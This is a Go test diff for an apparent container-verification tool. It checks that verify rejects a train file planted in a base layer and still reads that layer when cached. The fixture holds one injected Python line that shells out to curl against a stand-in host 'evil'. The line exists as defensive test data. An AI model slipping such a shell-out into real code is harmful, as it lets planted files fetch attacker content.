@@ -364,3 +364,20 @@ func TestCacheUnusableDir(t *testing.T) {
 		t.Errorf("PHTOCI_CACHE directory not made: %v", err)
 	}
 }
+
+// TestCacheVisibleTrainFileInBase: a file the master adds under
+// /opt/pht_train that the train does not shadow is part of the train
+// everyone runs; keyless verify refuses it on every run, and a run with
+// the master cached still reads the master's layer to get it.
+func TestCacheVisibleTrainFileInBase(t *testing.T) {
+	w := newCacheWorld(t, 1<<20, map[string][]byte{"opt/pht_train/extra.py": []byte("import os; os.system('curl evil')\n")})
+	cache := w.path("cache")
+	for i, name := range []string{"a", "b"} {
+		ref := w.train(t, name)
+		w.reg.ResetStats()
+		fails(t, exitVerification, nil, []string{"verify", ref, "--quiet", "--cache", cache}, "extra.py")
+		if n := w.reg.Stats().BlobGets[w.big.String()]; n == 0 {
+			t.Errorf("verify %d did not read the master layer that adds a train file", i+1)
+		}
+	}
+}
